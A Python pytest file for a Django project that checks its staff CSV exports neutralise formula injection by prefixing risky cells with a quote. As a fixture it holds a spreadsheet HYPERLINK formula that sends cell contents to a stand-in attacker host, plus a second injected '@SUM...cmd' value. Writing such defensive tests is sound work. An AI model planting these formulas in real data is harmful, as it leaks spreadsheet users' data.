"""CSV formula injection: a submitter-controlled cell that a spreadsheet would run as a formula is
written as text (a leading ``'``) in every staff export, and only such cells change (OWASP's rule,
``apps.core.csvsafe``)."""
from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from rest_framework.test import APIClient

from apps.core.csvsafe import FORMULA_STARTS, csv_cell, csv_row
from tests.factories import UserFactory, api_token_for, grant
from tests.pipelines.graphs import exec_node, graph

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_and_nothing_else(start):
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_row(["plain", f"{start}x", 42, -3, None, ""]) == ["plain", f"'{start}x", 42, -3, None, ""]
    assert csv_cell(f"a{start}b") == f"a{start}b"


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_a_hostile_environment_and_reason_are_text_in_the_export(observability_on, estate):
    submitter = grant(UserFactory(username="mallory", is_staff=False), "submitter", teams=("red",))
    api = APIClient()
    api.credentials(HTTP_AUTHORIZATION=f"Token {api_token_for(submitter)}")
    created = api.post("/api/forest/v1/pipelines/runs", {"kind": "compute", "team": "red", "environment": HOSTILE,
                                                        "graph": graph(exec_node("a"))}, format="json")
    assert created.status_code == 201, created.content
    page = Client()
    page.force_login(submitter)
    cancelled = page.post(reverse("staff:run-cancel", args=[created.json()["id"]]), {"reason": "@SUM(1+1)*cmd"})
    assert cancelled.status_code == 302
    rows = _rows(page.get(reverse("staff:run-list") + "?_export=csv"))
    header, *body = rows
    environment, reason = header.index("Environment"), header.index("Reason")
    ours = [row for row in body if row[environment].endswith(HOSTILE)]
    assert [(row[environment], row[reason]) for row in ours] == [("'" + HOSTILE, "'@SUM(1+1)*cmd")]
    for export in ("staff:placement-list", "staff:refusals", "staff:grove-list"):
        for row in _rows(page.get(reverse(export) + "?_export=csv")):
            assert not any(cell.startswith(FORMULA_STARTS) for cell in row), (export, row)
